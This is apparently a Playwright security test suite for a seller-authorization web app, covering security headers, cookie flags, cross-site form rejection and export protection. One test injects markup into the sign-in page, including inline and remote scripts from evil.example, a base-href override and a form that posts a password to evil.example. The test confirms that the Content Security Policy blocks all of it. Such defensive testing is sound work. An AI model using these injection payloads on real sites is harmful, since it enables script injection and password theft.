import { randomUUID } from 'node:crypto'
import { expect } from '@playwright/test'
import { Client, readForm } from './client.ts'
import { authorizationOf, type Sql } from './database.ts'
import { test } from './fixtures.ts'
import { signInAt, start } from './seller.ts'
import { connect, signUp } from './story.ts'

async function newestAttempt(sql: Sql) {
  const [row] = await sql`select id, status, received_at from attempt order by started_at desc limit 1`
  return row
}

test('every page has the security headers that keep other sites and scripts out (D1, D2)', async ({
  seller,
  demo,
  database,
  connected,
}) => {
  const id = (await authorizationOf(database, await connected()))?.id
  const visitor = new Client(demo.app)
  const operator = await signInAt(demo.app, demo.operator)
  const pages: [Client, string][] = [
    ...['/', '/sign-in', '/sign-up', '/setup', '/nowhere', '/authorize', '/sp-api/auth', start].map(
      (path): [Client, string] => [visitor, path],
    ),
    // Similar to what the proxy leaves out.
    ...['/icon.svg.html', '/icon-svg', '/_next/image?url=%2Ficon.svg&w=64&q=75', '/_next/staticky'].map(
      (path): [Client, string] => [seller, path],
    ),
    ...['/', '/connect/connections', '/connect/me', `/connect/${id}/re-authorize`, '/ops'].map(
      (path): [Client, string] => [seller, path],
    ),
    ...['/ops', `/ops/authorizations/${id}`, '/ops/attempts', '/ops/calls', '/ops/people', '/ops/me'].map(
      (path): [Client, string] => [operator, path],
    ),
    [operator, '/ops/data/authorizations'],
  ]
  for (const [client, path] of pages) {
    const { headers, status } = await client.ask(path)
    expect(status, path).toBeLessThan(500)
    const policy = headers['content-security-policy'] ?? ''
    for (const rule of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]) {
      expect(policy, path).toContain(rule)
    }
    expect(policy, path).toMatch(/script-src 'self' 'nonce-[\w+/=]{20,}' 'strict-dynamic';/)
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'cache-control': expect.stringContaining('no-store'),
    })
    expect(headers['referrer-policy'], path).toBe(
      /^\/(authorize|sp-api)/.test(path) ? 'no-referrer' : 'same-origin',
    )
    expect(headers, path).not.toHaveProperty('x-powered-by')
  }
})

const smuggled = `
  <script>window.smuggled = 'inline'</script>
  <img src="data:," onerror="window.smuggled = 'handler'">
  <script src="data:text/javascript,window.smuggled='data'"></script>
  <script src="https://evil.example/x.js"></script>
  <base href="https://evil.example/">
  <object data="data:text/html,<script>top.smuggled = 'object'</script>"></object>
  <iframe srcdoc="<script>top.smuggled = 'frame'</script>"></iframe>
  <form id="away" action="https://evil.example/"><input name="password"></form>`

test('injected markup doesn’t run and sends no data (D1)', async ({ page, allowOnConsole }) => {
  allowOnConsole(/Content Security Policy|violates/)
  const outside: string[] = []
  await page.route('https://evil.example/**', (route) => {
    outside.push(route.request().url())
    return route.abort()
  })
  await page.route('**/sign-in', async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${smuggled}</body>`) })
  })
  await page.goto('/sign-in')
  await expect(page.locator('#away')).toBeAttached()
  const blocked = page.evaluate(
    () =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (effectiveDirective === 'form-action') resolve(effectiveDirective)
        })
        document.querySelector<HTMLFormElement>('#away')?.submit()
      }),
  )
  expect(await blocked).toBe('form-action')
  expect(await page.evaluate(() => Reflect.get(window, 'smuggled'))).toBeUndefined()
  expect(await page.evaluate(() => document.baseURI)).toBe(page.url())
  expect(outside).toEqual([])
})

test('cookies are HttpOnly, SameSite and host-only (D3)', async ({ page, amazon, demo }) => {
  await signUp(page)
  await connect(page, await amazon.addPartner())
  const cookies = await page.context().cookies(demo.app)
  const names = cookies.map(({ name }) =>
    name.replace(/^\w{8}\./, '').replace(/[\da-f]{8}(-[\da-f]{4}){3}-[\da-f]{12}/, 'ID'),
  )
  expect(names.sort()).toEqual(['attempt-ID', 'gatehouse.cookies', 'next-auth.session-token'])
  for (const cookie of cookies) {
    expect(cookie, cookie.name).toMatchObject({ httpOnly: true, sameSite: 'Lax', path: '/' })
    expect(cookie.domain, cookie.name).toBe('localhost')
  }
  expect(await page.evaluate(() => document.cookie)).toBe('')
})

const foreignHeaders: Readonly<Record<string, string>>[] = [
  { origin: 'https://evil.example' },
  { origin: 'null' },
  { 'sec-fetch-site': 'cross-site' },
  { 'sec-fetch-site': 'same-site' },
  { 'sec-fetch-site': 'none' },
  { origin: 'https://evil.example', host: 'evil.example' },
  { origin: 'https://evil.example', 'x-forwarded-host': 'evil.example' },
  {},
]

test('a form posted from another site is refused and changes nothing (D4)', async ({
  seller,
  connected,
  database,
  demo,
}) => {
  const partner = await connected()
  const form = readForm((await seller.ask('/connect/connections')).body, 'Disconnect')
  const post = (path: string, headers: Readonly<Record<string, string>>) =>
    seller.ask(path, {
      method: 'POST',
      headers: { ...headers, 'content-type': form.type },
      body: form.fill({}),
    })

  for (const headers of foreignHeaders) {
    for (const path of ['/connect/connections', '/', '/ops', '/sign-in', '/authorize', '/api/auth/signout']) {
      const { status, body } = await post(path, headers)
      expect(status, `${path} ${JSON.stringify(headers)}`).toBe(403)
      expect(body).toContain('from another site')
    }
  }
  expect(await authorizationOf(database, partner)).toMatchObject({ disconnectedAt: null })

  await post('/connect/connections', { origin: demo.app, 'sec-fetch-site': 'same-origin' })
  expect(
    await authorizationOf(database, partner),
    'the very same form works from our own page',
  ).toMatchObject({ disconnectedAt: expect.any(Date) })
})

test('GET requests and link previews change nothing (D4)', async ({ seller, amazon, database, demo }) => {
  const partner = await amazon.addPartner()
  const before = await newestAttempt(database)
  expect((await seller.ask(start, { method: 'HEAD' })).status).toBe(200)
  expect(await newestAttempt(database)).toEqual(before)

  const { headers } = await seller.ask(start)
  const back = await amazon.confirm(headers.location ?? '', partner)
  expect((await seller.ask(back, { method: 'HEAD' })).status).toBe(200)
  expect(await newestAttempt(database)).toMatchObject({ status: 'started', received_at: null })
  for (const method of ['PUT', 'DELETE', 'PATCH', 'POST']) {
    const { status } = await seller.ask(back, { method, headers: { origin: demo.app } })
    expect(status, method).toBe(405)
  }
  const finish = (await seller.ask(back)).headers.location ?? ''
  for (const method of ['GET', 'HEAD']) expect((await seller.ask(finish, { method })).status).toBe(200)
  expect(await newestAttempt(database)).toMatchObject({ status: 'received' })
})

test('a link on another site exports nothing and writes nothing into the audit log', async ({
  demo,
  database,
}) => {
  const operator = await signInAt(demo.app, demo.operator)
  const id = randomUUID()
  const count = async () =>
    (await database`select count(*) as entries from audit where action like '%exported'`)[0]
  const before = await count()
  for (const [page, file, query] of [
    ['/ops/authorizations', 'export', '?search=Call+0900-1234'],
    ['/ops/audit', 'export', '?action=call'],
    [`/ops/bulk/${id}`, 'export', ''],
    [`/ops/imports/${id}`, 'failures', ''],
  ]) {
    const navigation = { 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' }
    const address = `${page}/${file}${query}`
    for (const site of ['cross-site', 'same-site']) {
      const reply = await operator.ask(address, { headers: { ...navigation, 'sec-fetch-site': site } })
      expect(reply, address).toMatchObject({ status: 303, headers: { location: `${page}${query}` } })
      expect(reply.headers, address).not.toHaveProperty('content-disposition')
    }
  }
  expect(await count()).toEqual(before)
})
